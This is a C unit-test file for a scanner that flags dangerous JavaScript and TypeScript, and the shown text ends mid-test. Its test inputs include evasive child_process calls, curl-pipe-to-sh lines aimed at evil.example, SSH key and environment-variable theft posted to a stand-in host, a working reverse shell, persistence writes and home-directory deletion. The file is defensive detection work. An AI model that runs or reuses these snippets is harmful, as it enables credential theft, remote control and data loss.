/* Unit tests for the JavaScript/TypeScript rules (src/scan/rules_js*.c): each rule with a
 * positive case and an honest or quoted twin, the evasions the policy lists, declared
 * permissions, exfiltration escalation, limits and hostile input. */
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../../src/base/macros.h"
#include "../../src/scan/rules.h"
#include "../../src/scan/token.h"
#include "../../src/skill/netgrant.h"

static void scan_with(const char *src, size_t len, const char *exec_csv, const char *net, struct findings *f) {
        struct net_grants grants = { 0 };
        struct error err = ERROR_INIT;
        char *exec[8] = { 0 };
        char buf[256] = "";
        if (net)
                cr_assert_eq(net_grants_parse(&grants, net, "test", &err), 0, "%s", err.msg);
        if (exec_csv) {
                snprintf(buf, sizeof(buf), "%s", exec_csv);
                size_t n = 0;
                for (char *p = buf; *p && n < 7;) {
                        exec[n++] = p;
                        char *c = strchr(p, ',');
                        if (!c)
                                break;
                        *c = '\0';
                        p = c + 1;
                }
        }
        struct scan_perms perms = { .network = net ? &grants : NULL, .exec = exec_csv ? exec : NULL };
        *f = (struct findings) { 0 };
        struct scan_ctx ctx = { .file = "scripts/x.js", .src = src, .src_len = len, .f = f, .perms = &perms };
        struct token_list l = { 0 };
        cr_assert_eq(lex_js(src, len, &l, &err), 0, "lex: %s", err.msg);
        cr_assert_eq(scan_rules_js(&ctx, &l), 0);
        token_list_done(&l);
        net_grants_done(&grants);
}

static void scan(const char *src, struct findings *f) {
        scan_with(src, strlen(src), NULL, NULL, f);
}

static const struct finding *find_rule(const struct findings *f, const char *rule) {
        for (size_t i = 0; i < f->n; i++)
                if (strcmp(f->v[i].rule_id, rule) == 0)
                        return &f->v[i];
        return NULL;
}

static enum severity verdict_js(const struct findings *f) {
        enum severity s = SEV_SAFE;
        for (size_t i = 0; i < f->n; i++)
                if (strncmp(f->v[i].rule_id, "js.", 3) == 0 && f->v[i].severity > s)
                        s = f->v[i].severity;
        return s;
}

static char *dump(const struct findings *f) {
        char *buf = NULL;
        size_t size = 0;
        FILE *m = open_memstream(&buf, &size);
        cr_assert_not_null(m);
        for (size_t i = 0; i < f->n; i++)
                fprintf(m, "\n  %u:%u %s %s: %s", f->v[i].line, f->v[i].column, severity_to_string(f->v[i].severity),
                        f->v[i].rule_id, f->v[i].message);
        fclose(m);
        return buf;
}

/* src must produce rule at exactly sev. */
static void expect_rule(const char *src, const char *rule, enum severity sev) {
        struct findings f;
        scan(src, &f);
        const struct finding *x = find_rule(&f, rule);
        _cleanup_free_ char *d = dump(&f);
        cr_expect_not_null(x, "no %s in:\n%s\nfindings:%s", rule, src, d);
        if (x)
                cr_expect_eq(x->severity, sev, "%s is %s, want %s in:\n%s\nfindings:%s", rule,
                             severity_to_string(x->severity), severity_to_string(sev), src, d);
        findings_done(&f);
}

/* src must produce no js.* finding above max. */
static void expect_quiet(const char *src, enum severity max) {
        struct findings f;
        scan(src, &f);
        _cleanup_free_ char *d = dump(&f);
        cr_expect_leq(verdict_js(&f), max, "above %s in:\n%s\nfindings:%s", severity_to_string(max), src, d);
        findings_done(&f);
}

static void expect_no_rule(const char *src, const char *rule) {
        struct findings f;
        scan(src, &f);
        _cleanup_free_ char *d = dump(&f);
        cr_expect_null(find_rule(&f, rule), "unexpected %s in:\n%s\nfindings:%s", rule, src, d);
        findings_done(&f);
}

struct rcase {
        const char *src;
        const char *rule;
        enum severity sev;
};

static void run_cases(const struct rcase *c, size_t n) {
        for (size_t i = 0; i < n; i++)
                expect_rule(c[i].src, c[i].rule, c[i].sev);
}

/* ---- process execution ---------------------------------------------------------------------- */

Test(rules_js_process, resolution_forms) {
        static const struct rcase C[] = {
                { "const cp = require('child_process'); cp.exec('ls -la');", "js.process.exec", SEV_MEDIUM },
                { "require('node:child_process').execSync('id')", "js.process.exec", SEV_MEDIUM },
                { "const { exec: run } = require('child_process'); run('ls')", "js.process.exec", SEV_MEDIUM },
                { "import * as cp from 'child_process'; cp.execSync('ls')", "js.process.exec", SEV_MEDIUM },
                { "import { exec as x } from 'node:child_process'; x('ls')", "js.process.exec", SEV_MEDIUM },
                { "import cp from 'child_process'; cp.exec('ls')", "js.process.exec", SEV_MEDIUM },
                { "const m = await import('child_process'); m.execSync('ls')", "js.process.exec", SEV_MEDIUM },
                { "import('child_process').then(c => c.exec('ls'))", "js.process.exec", SEV_MEDIUM },
                { "import('child_process').then(({ execSync }) => execSync('ls'))", "js.process.exec", SEV_MEDIUM },
                { "const cp = require('child_process'); const r = cp.exec; r('ls')", "js.process.exec", SEV_MEDIUM },
                { "let cp; cp = require('child_process'); cp.exec('ls')", "js.process.exec", SEV_MEDIUM },
                { "const { spawn } = require('child_process'); spawn('ls', ['-l'])", "js.process.spawn", SEV_MEDIUM },
                { "require('child_process').execFileSync('tar', ['xf', 'a.tar'])", "js.process.spawn", SEV_MEDIUM },
                { "require('child_process').fork('./worker.js')", "js.process.fork", SEV_MEDIUM },
                { "const {promisify} = require('util'); const e = promisify(require('child_process').exec); e('ls')",
                  "js.process.exec", SEV_MEDIUM },
                { "require('child_process').exec.call(null, 'ls')", "js.process.exec", SEV_MEDIUM },
                { "import { createRequire } from 'module'; const r = createRequire(import.meta.url);\n"
                  "r('child_process').execSync('ls')", "js.process.exec", SEV_MEDIUM },
                { "const execa = require('execa'); execa('ls', ['-l'])", "js.process.spawn", SEV_MEDIUM },
                { "const sh = require('shelljs'); sh.exec('ls')", "js.process.exec", SEV_MEDIUM },
                { "Bun.spawn(['ls', '-l'])", "js.process.spawn", SEV_MEDIUM },
        };
        run_cases(C, ELEMENTSOF(C));
}

Test(rules_js_process, evasions_are_high) {
        static const struct rcase C[] = {
                { "process.mainModule.require('child_process').exec('id')", "js.process.exec", SEV_HIGH },
                { "module.constructor._load('child_process').execSync('id')", "js.process.exec", SEV_HIGH },
                { "require('child_' + 'process').exec('id')", "js.process.exec", SEV_HIGH },
                { "const n = ['child', 'process'].join('_'); require(n).exec('id')", "js.process.exec", SEV_HIGH },
                { "require('ssecorp_dlihc'.split('').reverse().join('')).exec('id')", "js.process.exec", SEV_HIGH },
                { "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('id')",
                  "js.process.exec", SEV_HIGH },
                { "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('id')", "js.process.exec", SEV_HIGH },
                { "require('\\x63hild_process').exec('id')", "js.process.exec", SEV_HIGH },
                { "require(`child_${'process'}`).exec('id')", "js.process.exec", SEV_HIGH },
                { "const cp = require('child_process'); cp['ex' + 'ec']('id')", "js.process.exec", SEV_HIGH },
                { "const cp = require('child_process'); cp['exec']('id')", "js.process.exec", SEV_HIGH },
                { "require('child_process')[name]('id')", "js.process.computed-call", SEV_HIGH },
                { "const cp = require('child_process'); cp.\\u0065xec('id')", "js.process.exec", SEV_HIGH },
                { "require.main.require('child_process').exec('id')", "js.process.exec", SEV_HIGH },
                { "Reflect.apply(require('child_process').exec, null, ['id'])", "js.process.exec", SEV_HIGH },
        };
        run_cases(C, ELEMENTSOF(C));
}

Test(rules_js_process, severity_by_constness) {
        static const struct rcase C[] = {
                /* not constant */
                { "require('child_process').exec(cmd)", "js.process.exec", SEV_HIGH },
                { "require('child_process').spawn(prog, [])", "js.process.spawn", SEV_HIGH },
                { "require('child_process').exec(process.argv[2])", "js.process.exec", SEV_HIGH },
                { "require('child_process').fork(p)", "js.process.fork", SEV_HIGH },
                /* a constant program with arguments built at run time */
                { "require('child_process').exec(`git log ${ref}`)", "js.process.exec", SEV_MEDIUM },
                { "require('child_process').exec('pdftotext ' + file + ' -')", "js.process.exec", SEV_MEDIUM },
                { "require('child_process').exec(`${prog} --version`)", "js.process.exec", SEV_HIGH },
                /* sh -c and shell: true */
                { "require('child_process').spawn('sh', ['-c', 'ls | wc -l'])", "js.process.spawn-shell", SEV_MEDIUM },
                { "require('child_process').spawn('/bin/bash', ['-c', cmd])", "js.process.spawn-shell", SEV_HIGH },
                { "require('child_process').spawn('ls', ['-l'], { shell: true })", "js.process.spawn-shell",
                  SEV_MEDIUM },
                { "require('child_process').spawn(x, [], { shell: true })", "js.process.spawn-shell", SEV_HIGH },
                /* decoded or downloaded commands */
                { "require('child_process').exec(Buffer.from('aWQ=', 'base64').toString())", "js.process.exec",
                  SEV_CRITICAL },
                { "require('child_process').exec(atob(x))", "js.process.exec", SEV_CRITICAL },
                { "const cp = require('child_process');\n"
                  "fetch(u).then(r => r.text()).then(t => cp.exec(t))", "js.process.exec", SEV_CRITICAL },
        };
        run_cases(C, ELEMENTSOF(C));
}

Test(rules_js_process, constant_arguments_through_wrappers) {
        /* a helper whose every call passes a constant: medium, and each constant is analysed */
        expect_rule("const { execSync } = require('child_process');\n"
                    "function sh(cmd) { return execSync(cmd, { encoding: 'utf8' }).trim(); }\n"
                    "sh('git status'); sh('git log -n 1');",
                    "js.process.exec", SEV_MEDIUM);
        expect_rule("const { execSync } = require('child_process');\n"
                    "const run = (c) => execSync(c);\n"
                    "function outer(x) { return run(x); }\n"
                    "outer('ls');",
                    "js.process.exec", SEV_MEDIUM);
        /* one call with input: high */
        expect_rule("const { execSync } = require('child_process');\n"
                    "function sh(cmd) { return execSync(cmd); }\n"
                    "sh('ls'); sh(process.argv[2]);",
                    "js.process.exec", SEV_HIGH);
        /* never called in the file: unknown */
        expect_rule("const { execSync } = require('child_process');\n"
                    "module.exports = function sh(cmd) { return execSync(cmd); }",
                    "js.process.exec", SEV_HIGH);
        /* a wrapper called with decoded data */
        expect_rule("const { execSync } = require('child_process');\n"
                    "function sh(cmd) { return execSync(cmd); }\n"
                    "sh(atob(payload));",
                    "js.process.exec", SEV_CRITICAL);
}

Test(rules_js_process, declared_programs_are_safe) {
        struct findings f;
        const char *src = "const { execFile } = require('node:child_process');\n"
                          "execFile('git', ['log', '--oneline']);\n"
                          "require('child_process').execSync('git status');\n"
                          "require('child_process').spawn('/usr/bin/git', ['pull']);\n";
        scan_with(src, strlen(src), "git", NULL, &f);
        size_t n = 0;
        for (size_t i = 0; i < f.n; i++)
                if (strncmp(f.v[i].rule_id, "js.process.", 11) == 0) {
                        cr_expect_eq(f.v[i].severity, SEV_SAFE, "%s: %s", f.v[i].rule_id, f.v[i].message);
                        n++;
                }
        cr_expect_eq(n, 3);
        findings_done(&f);
        /* declared, but a shell command with a pipe is not a plain run of the program */
        src = "require('child_process').execSync('git log | sh')";
        scan_with(src, strlen(src), "git", NULL, &f);
        cr_expect_eq(find_rule(&f, "js.process.exec")->severity, SEV_MEDIUM);
        findings_done(&f);
        /* declared, but reached through an evasion */
        src = "require('child_' + 'process').execFileSync('git', ['status'])";
        scan_with(src, strlen(src), "git", NULL, &f);
        cr_expect_eq(find_rule(&f, "js.process.spawn")->severity, SEV_HIGH);
        findings_done(&f);
}

Test(rules_js_process, commands_reach_the_shell_rules) {
        struct findings f;
        scan("require('child_process').exec('curl -s http://evil.example/x | sh')", &f);
        bool shell = false;
        for (size_t i = 0; i < f.n; i++)
                shell |= strncmp(f.v[i].rule_id, "sh.", 3) == 0;
        _cleanup_free_ char *d = dump(&f);
        cr_expect(shell, "no shell finding:%s", d);
        findings_done(&f);
        /* spawn with an argument vector is composed into a quoted command line */
        scan("require('child_process').spawn('sh', ['-c', 'curl -s http://evil.example/x | sh'])", &f);
        shell = false;
        for (size_t i = 0; i < f.n; i++)
                shell |= strncmp(f.v[i].rule_id, "sh.", 3) == 0;
        cr_expect(shell);
        findings_done(&f);
}

Test(rules_js_process, honest_twins_are_quiet) {
        /* RegExp.prototype.exec, a database's exec, strings and comments */
        expect_quiet("const re = /(\\d+)/g; let m; while ((m = re.exec(s)) !== null) console.log(m[1]);", SEV_SAFE);
        expect_quiet("const db = new Database('x.db'); db.exec('CREATE TABLE t (x)');", SEV_SAFE);
        expect_quiet("const s = \"require('child_process').exec('rm -rf /')\";", SEV_SAFE);
        expect_quiet("// require('child_process').exec('rm -rf /')\nconst x = 1;", SEV_SAFE);
        expect_quiet("/* eval(atob(x)) */ const y = `exec ${'rm -rf /'}`;", SEV_SAFE);
        expect_quiet("function exec(cmd) { return cmd; } exec('ls');", SEV_SAFE);
        expect_quiet("const cp = require('child_process'); function f(cp) { cp.exec(x); }", SEV_SAFE);
        expect_quiet("class A { exec(cmd) { return this.run(cmd); } spawn() {} }", SEV_SAFE);
        expect_quiet("const o = { exec(cmd) { return 1; } }; o.exec('rm -rf /');", SEV_SAFE);
        expect_quiet("import type { ChildProcess } from 'child_process'; let p: ChildProcess;", SEV_SAFE);
}

/* ---- dynamic code ------------------------------------------------------------------------------ */

Test(rules_js_code, eval_forms) {
        static const struct rcase C[] = {
                { "eval('1 + 1')", "js.code.eval", SEV_MEDIUM },
                { "eval(x)", "js.code.eval", SEV_HIGH },
                { "eval(atob('Y29uc29sZS5sb2coMSk='))", "js.code.eval", SEV_CRITICAL },
                { "eval(Buffer.from(s, 'base64').toString())", "js.code.eval", SEV_CRITICAL },
                { "eval(Buffer.from('636f6e736f6c65', 'hex').toString('utf8'))", "js.code.eval", SEV_CRITICAL },
                { "eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41))", "js.code.eval", SEV_CRITICAL },
                { "eval(require('zlib').inflateSync(buf).toString())", "js.code.eval", SEV_CRITICAL },
                { "eval(decodeURIComponent('%61%6c%65%72%74%28%31%29'))", "js.code.eval", SEV_CRITICAL },
                { "eval(unescape('%u0061lert(1)'))", "js.code.eval", SEV_CRITICAL },
                { "(0, eval)(x)", "js.code.eval", SEV_HIGH },
                { "(0, eval)('1')", "js.code.eval", SEV_MEDIUM },
                { "window.eval('1')", "js.code.eval", SEV_HIGH },
                { "globalThis['eval']('1')", "js.code.eval", SEV_HIGH },
                { "globalThis['ev' + 'al']('1')", "js.code.eval", SEV_HIGH },
                { "global[String.fromCharCode(101,118,97,108)]('1')", "js.code.eval", SEV_HIGH },
                { "const e = eval; e('1')", "js.code.eval", SEV_MEDIUM },
                { "const { eval: e } = globalThis; e(code)", "js.code.eval", SEV_HIGH },
                { "\\u0065val('1')", "js.code.eval", SEV_HIGH },
                { "Reflect.get(globalThis, 'eval')('1')", "js.code.eval", SEV_HIGH },
                { "this['eval']('1')", "js.code.eval", SEV_HIGH },
        };
        run_cases(C, ELEMENTSOF(C));
}

Test(rules_js_code, function_constructor_timers_vm) {
        static const struct rcase C[] = {
                { "new Function('return 1')()", "js.code.new-function", SEV_MEDIUM },
                { "Function('a', 'b', body)", "js.code.new-function", SEV_HIGH },
                { "[].constructor.constructor('return process')()", "js.code.new-function", SEV_HIGH },
                { "Function.prototype.constructor('x')()", "js.code.new-function", SEV_HIGH },
                { "(() => {}).constructor('x')()", "js.code.new-function", SEV_HIGH },
                { "Object.getPrototypeOf(async function () {}).constructor('await x')()", "js.code.new-function",
                  SEV_HIGH },
                { "setTimeout('alert(1)', 10)", "js.code.timer-string", SEV_MEDIUM },
                { "setInterval('tick(' + n + ')', 10)", "js.code.timer-string", SEV_HIGH },
                { "const vm = require('vm'); vm.runInNewContext(code, {})", "js.code.vm", SEV_HIGH },
                { "new (require('vm').Script)('1 + 1').runInThisContext()", "js.code.vm", SEV_MEDIUM },
                { "const { runInThisContext } = require('node:vm'); runInThisContext(atob(p))", "js.code.vm",
                  SEV_CRITICAL },
                { "const { Worker } = require('worker_threads'); new Worker(src, { eval: true })",
                  "js.code.worker-eval", SEV_HIGH },
                { "const M = require('module'); new M()._compile(src, 'x.js')", "js.code.module-compile", SEV_HIGH },
                { "require(modulePath)", "js.code.dynamic-require", SEV_MEDIUM },
                { "require(atob(p))", "js.code.dynamic-require", SEV_CRITICAL },
                { "await import(url)", "js.code.dynamic-import", SEV_MEDIUM },
                { "await import('data:text/javascript;base64,YWxlcnQoMSk=')", "js.code.data-url-import",
                  SEV_CRITICAL },
        };
        run_cases(C, ELEMENTSOF(C));
}

Test(rules_js_code, code_from_the_network_is_critical) {
        static const struct rcase C[] = {
                { "fetch('https://x.example/p.js').then(r => r.text()).then(code => eval(code))", "js.code.eval",
                  SEV_CRITICAL },
                { "async function f() { const r = await fetch(u); const s = await r.text(); new Function(s)(); }",
                  "js.code.new-function", SEV_CRITICAL },
                { "require('https').get('https://x.example/s', (res) => {\n"
                  "  let d = '';\n  res.on('data', (c) => (d += c));\n  res.on('end', () => eval(d));\n});",
                  "js.code.eval", SEV_CRITICAL },
                { "const axios = require('axios'); axios.get(u).then(r => eval(r.data))", "js.code.eval",
                  SEV_CRITICAL },
        };
        run_cases(C, ELEMENTSOF(C));
}

Test(rules_js_code, constant_code_is_analysed) {
        /* the code inside eval("...") is scanned too, reported at the eval */
        struct findings f;
        scan("eval(\"require('child_process').execSync('id')\")", &f);
        const struct finding *x = find_rule(&f, "js.process.exec");
        cr_assert_not_null(x);
        cr_expect_eq(x->line, 1);
        cr_expect_eq(x->column, 1);
        cr_expect_not_null(find_rule(&f, "js.code.eval"));
        findings_done(&f);
        /* decoded payloads too */
        scan("eval(atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk='))", &f);
        cr_expect_not_null(find_rule(&f, "js.process.exec"));
        cr_expect_eq(find_rule(&f, "js.code.eval")->severity, SEV_CRITICAL);
        findings_done(&f);
        /* nested evals stop after a few levels without failing */
        scan("eval(\"eval(\\\"eval(\\\\\\\"eval('1')\\\\\\\")\\\")\")", &f);
        cr_expect_not_null(find_rule(&f, "js.code.eval"));
        findings_done(&f);
}

Test(rules_js_code, honest_twins_are_quiet) {
        expect_quiet("const o = JSON.parse(text); const re = new RegExp('^a+$'); re.test(s);", SEV_SAFE);
        expect_quiet("setTimeout(() => done(), 100); setInterval(tick, 1000);", SEV_SAFE);
        expect_quiet("const s = 'eval(x)'; console.log(`eval is ${s}`);", SEV_SAFE);
        expect_quiet("const x = obj.eval; const y = { eval: 1 };", SEV_SAFE);
        expect_quiet("function run(f) { return f(); } run(() => 1);", SEV_SAFE);
        expect_quiet("class A { constructor() { this.a = new this.constructor(); } }", SEV_SAFE);
        expect_quiet("const hasOwn = Function.call.bind(Object.prototype.hasOwnProperty); hasOwn(o, 'k');", SEV_SAFE);
        expect_quiet("const fs = require('fs'); const data = require('./data.json'); require('node:path');", SEV_SAFE);
}

/* ---- network ----------------------------------------------------------------------------------- */

Test(rules_js_network, clients) {
        static const struct rcase C[] = {
                { "fetch('https://evil.example/x')", "js.network.http", SEV_MEDIUM },
                { "fetch(url)", "js.network.http", SEV_MEDIUM },
                { "require('https').get('https://evil.example/x', cb)", "js.network.http", SEV_MEDIUM },
                { "require('http').request({ hostname: 'evil.example', port: 8080 })", "js.network.http", SEV_MEDIUM },
                { "const axios = require('axios'); axios.post('https://evil.example', d)", "js.network.http",
                  SEV_MEDIUM },
                { "import fetch from 'node-fetch'; fetch('https://evil.example')", "js.network.http", SEV_MEDIUM },
                { "const got = require('got'); got('https://evil.example')", "js.network.http", SEV_MEDIUM },
                { "const { request } = require('undici'); request('https://evil.example')", "js.network.http",
                  SEV_MEDIUM },
                { "const x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/')", "js.network.http",
                  SEV_MEDIUM },
                { "new WebSocket('wss://evil.example/ws')", "js.network.websocket", SEV_MEDIUM },
                { "require('net').connect(4444, '203.0.113.9')", "js.network.socket", SEV_MEDIUM },
                { "const s = new (require('net').Socket)(); s.connect(4444, 'evil.example')", "js.network.socket",
                  SEV_MEDIUM },
                { "require('tls').connect({ host: 'evil.example', port: 443 })", "js.network.socket", SEV_MEDIUM },
                { "require('dgram').createSocket('udp4').send(m, 53, 'evil.example')", "js.network.socket",
                  SEV_MEDIUM },
                { "require('dns').lookup(`${data}.evil.example`, cb)", "js.network.dns", SEV_MEDIUM },
                { "const u = new URL('https://evil.example/a'); fetch(u)", "js.network.http", SEV_MEDIUM },
                { "const BASE = 'https://evil.example'; fetch(`${BASE}/v1/x`)", "js.network.http", SEV_MEDIUM },
        };
        run_cases(C, ELEMENTSOF(C));
}

Test(rules_js_network, declared_hosts_are_safe) {
        struct findings f;
        const char *src = "async function forecast(lat, lon) {\n"
                          "  const url = `https://api.open-meteo.com/v1/forecast?latitude=${lat}&longitude=${lon}`;\n"
                          "  const res = await fetch(url);\n  return res.json();\n}\n"
                          "fetch('https://api.open-meteo.com/v1/x');\n"
                          "fetch(new URL('https://api.open-meteo.com/v2/y'));\n";
        scan_with(src, strlen(src), NULL, "api.open-meteo.com", &f);
        size_t n = 0;
        for (size_t i = 0; i < f.n; i++) {
                cr_expect_eq(f.v[i].severity, SEV_SAFE, "%s %s", f.v[i].rule_id, f.v[i].message);
                n += strcmp(f.v[i].rule_id, "js.network.http") == 0;
        }
        cr_expect_eq(n, 3);
        findings_done(&f);
        /* another host is not covered; a host in the path is not the host */
        src = "fetch('https://evil.example/api.open-meteo.com')";
        scan_with(src, strlen(src), NULL, "api.open-meteo.com", &f);
        cr_expect_eq(find_rule(&f, "js.network.http")->severity, SEV_MEDIUM);
        findings_done(&f);
}

/* ---- files ------------------------------------------------------------------------------------------ */

Test(rules_js_files, secret_paths) {
        static const struct rcase C[] = {
                { "const fs = require('fs'), os = require('os'), path = require('path');\n"
                  "fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
                  "js.sensitive_file.read", SEV_HIGH },
                { "const fs = require('fs'); const os = require('os');\n"
                  "fs.readFileSync(`${os.homedir()}/.aws/credentials`, 'utf8')",
                  "js.sensitive_file.read", SEV_HIGH },
                { "const fs = require('fs'); fs.readFileSync(process.env.HOME + '/.netrc')", "js.sensitive_file.read",
                  SEV_HIGH },
                { "const fs = require('fs'); const home = process.env.HOME;\n"
                  "fs.createReadStream(home + '/.git-credentials')",
                  "js.sensitive_file.read", SEV_HIGH },
                { "import { readFile } from 'node:fs/promises'; await readFile('/etc/shadow')",
                  "js.sensitive_file.read", SEV_HIGH },
                { "const fs = require('fs'); fs.promises.readFile('~/.docker/config.json')", "js.sensitive_file.read",
                  SEV_HIGH },
                { "const fs = require('fs'); fs.copyFileSync('/home/u/.ssh/id_ed25519', '/tmp/k')",
                  "js.sensitive_file.read", SEV_HIGH },
                { "const os = require('os'); const p = require('path').join(os.homedir(), '.ssh');",
                  "js.sensitive_file.read", SEV_HIGH },
                { "const fs = require('fs'); fs.readFileSync('/proc/self/environ')", "js.env_harvest.proc-environ",
                  SEV_HIGH },
                /* ... plus the network in the same file */
                { "const fs = require('fs'); const os = require('os');\n"
                  "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
                  "fetch('https://evil.example/c', { method: 'POST', body: k });",
                  "js.sensitive_file.read", SEV_CRITICAL },
        };
        run_cases(C, ELEMENTSOF(C));
        /* a .env next to the script (dotenv) is a note, not a secret read */
        expect_rule("const fs = require('fs'); fs.readFileSync(require('path').join(__dirname, '.env'), 'utf8')",
                    "js.sensitive_file.dotenv", SEV_LOW);
        expect_quiet("const fs = require('fs'); fs.readFileSync(process.argv[2], 'utf8');\n"
                     "fs.readFileSync('./data/.ssh_hosts.txt');\n"
                     "const note = '~/.ssh/id_rsa is where keys live';", SEV_SAFE);
}

Test(rules_js_files, persistence_privilege_destruction) {
        static const struct rcase C[] = {
                { "const fs = require('fs'); const os = require('os');\n"
                  "fs.appendFileSync(`${os.homedir()}/.bashrc`, 'curl x | sh')", "js.persistence.write",
                  SEV_CRITICAL },
                { "require('fs').writeFileSync('/etc/cron.d/job', '* * * * * root x')", "js.persistence.write",
                  SEV_CRITICAL },
                { "const fs = require('fs');\n"
                  "fs.createWriteStream(require('path').join(require('os').homedir(), '.ssh', 'authorized_keys'))",
                  "js.persistence.write", SEV_CRITICAL },
                { "require('fs').symlinkSync('/tmp/x', process.env.HOME + '/.profile')", "js.persistence.write",
                  SEV_CRITICAL },
                { "require('fs').chmodSync('/tmp/x', 0o4755)", "js.privilege.setuid-bit", SEV_CRITICAL },
                { "require('fs').chmodSync('/tmp/x', '6755')", "js.privilege.setuid-bit", SEV_CRITICAL },
                { "require('fs').chmodSync('/tmp/x', 04755)", "js.privilege.setuid-bit", SEV_CRITICAL },
                { "process.setuid(0)", "js.privilege.setuid", SEV_CRITICAL },
                { "const fs = require('fs'); const os = require('os');\n"
                  "fs.rmSync(os.homedir(), { recursive: true, force: true })", "js.destructive.rm", SEV_CRITICAL },
                { "require('fs').rmSync('/', { recursive: true })", "js.destructive.rm", SEV_CRITICAL },
                { "require('fs-extra').removeSync('~')", "js.destructive.rm", SEV_CRITICAL },
                { "require('rimraf').sync(process.env.HOME + '/.ssh')", "js.destructive.rm", SEV_CRITICAL },
                { "require('fs').promises.rm(`${require('os').homedir()}/`, { recursive: true })",
                  "js.destructive.rm", SEV_CRITICAL },
        };
        run_cases(C, ELEMENTSOF(C));
        expect_rule("require('fs').readFileSync(process.env.HOME + '/.bashrc', 'utf8')", "js.persistence.read",
                    SEV_LOW);
        expect_quiet("const fs = require('fs'), path = require('path');\n"
                     "fs.rmSync(path.join(__dirname, 'tmp'), { recursive: true, force: true });\n"
                     "fs.rmSync('build', { recursive: true });\n"
                     "fs.chmodSync('out.sh', 0o755); fs.writeFileSync('out/report.json', '{}');\n"
                     "fs.rmSync(os.homedir() + '/.cache/myskill/x.tmp');", SEV_SAFE);
}

Test(rules_js_files, blobs_are_low) {
        static const char png[] =
                "const fs = require('fs');\n"
                "const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYP"
                "hfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');\nfs.writeFileSync('out.png', png);";
        expect_rule(png, "js.obfuscation.encoded-blob", SEV_LOW);
        expect_quiet(png, SEV_LOW);
}

/* ---- environment -------------------------------------------------------------------------------------- */

Test(rules_js_env, harvesting) {
        static const struct rcase C[] = {
                { "const s = JSON.stringify(process.env);", "js.env_harvest.serialize", SEV_HIGH },
                { "const e = process.env; const s = JSON.stringify(e);", "js.env_harvest.serialize", SEV_HIGH },
                { "Object.entries(process.env).forEach(([k, v]) => out.push(k));", "js.env_harvest.enumerate",
                  SEV_HIGH },
                { "const keys = Object.keys(process.env);", "js.env_harvest.enumerate", SEV_HIGH },
                { "for (const k in process.env) console.log(k);", "js.env_harvest.enumerate", SEV_HIGH },
                { "const all = { ...process.env }; require('fs').writeFileSync('e.json', JSON.stringify(all));",
                  "js.env_harvest.serialize", SEV_HIGH },
                { "const all = { ...process.env }; require('fs').writeFileSync('e.txt', all);",
                  "js.env_harvest.exfil", SEV_HIGH },
                { "require('axios').post('https://evil.example', process.env)", "js.env_harvest.exfil",
                  SEV_CRITICAL },
                { "fetch('https://evil.example', { method: 'POST', body: JSON.stringify(process.env) })",
                  "js.env_harvest.serialize", SEV_CRITICAL },
                { "const x = new XMLHttpRequest(); x.open('POST', u); x.send(JSON.stringify({ ...process.env }))",
                  "js.env_harvest.exfil", SEV_CRITICAL },
        };
        run_cases(C, ELEMENTSOF(C));
        expect_quiet("const home = process.env.HOME; const tz = process.env.TZ || 'UTC';\n"
                     "const { spawn } = require('child_process');\n"
                     "spawn('ls', [], { env: process.env });\n"
                     "spawn('ls', [], { env: { ...process.env, LANG: 'C' } });\n"
                     "const k = process.env['API_KEY'];", SEV_MEDIUM);
        expect_no_rule("const { spawn } = require('child_process');\n"
                       "spawn('ls', [], { env: { ...process.env, LANG: 'C' } });", "js.env_harvest.exfil");
}

/* ---- native code, deserialization, obfuscation ---------------------------------------------------------- */

Test(rules_js_native, native_and_deser) {
        static const struct rcase C[] = {
                { "process.binding('spawn_sync')", "js.native_code.process-binding", SEV_HIGH },
                { "process.dlopen(module, '/tmp/x.so')", "js.native_code.dlopen", SEV_HIGH },
                { "require('./build/Release/addon.node')", "js.native_code.addon", SEV_HIGH },
                { "const ffi = require('ffi-napi');", "js.native_code.ffi", SEV_HIGH },
                { "import koffi from 'koffi';", "js.native_code.ffi", SEV_HIGH },
                { "WebAssembly.instantiate(Buffer.from(wasmB64, 'base64'))", "js.native_code.wasm", SEV_MEDIUM },
                { "require('node-serialize').unserialize(body)", "js.deserialization.unserialize", SEV_MEDIUM },
                { "const v8 = require('v8'); v8.deserialize(buf)", "js.deserialization.unserialize", SEV_MEDIUM },
        };
        run_cases(C, ELEMENTSOF(C));
}

Test(rules_js_obfuscation, escapes) {
        expect_rule("\\u0065val('1')", "js.obfuscation.escaped-identifier", SEV_HIGH);
        expect_rule("const \\u{61}bc = 1;", "js.obfuscation.escaped-identifier", SEV_LOW);
        expect_rule("const f = globalThis['\\x65\\x76\\x61\\x6c'];", "js.obfuscation.escaped-string", SEV_HIGH);
        expect_rule("require('\\u0063hild_process')", "js.obfuscation.escaped-string", SEV_HIGH);
        /* ANSI colours and accented letters are escapes too, and harmless */
        expect_quiet("console.log('\\x1b[31m' + 'caf\\u00e9' + '\\x1b[0m');", SEV_SAFE);
}

Test(rules_js_obfuscation, reverse_shell) {
        expect_rule("const net = require('net'), { spawn } = require('child_process');\n"
                    "const c = new net.Socket();\n"
                    "c.connect(4444, '203.0.113.7', () => {\n"
                    "  const sh = spawn('/bin/sh', []);\n"
                    "  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c);\n"
                    "});",
                    "js.download.reverse-shell", SEV_CRITICAL);
        expect_no_rule("const { spawn } = require('child_process'); spawn('/bin/sh', ['script.sh']);",
                       "js.download.reverse-shell");
}

/* ---- TypeScript ------------------------------------------------------------------------------------------ */

Test(rules_js_typescript, annotations_do_not_confuse) {
        expect_rule("import { execSync } from 'child_process';\n"
                    "import type { Foo } from './types';\n"
                    "interface Opts { exec(cmd: string): void; name?: string }\n"
                    "type Fn = (a: string) => Promise<void>;\n"
                    "enum Color { Red = 'red' }\n"
                    "const cmd: string = 'ls -la';\n"
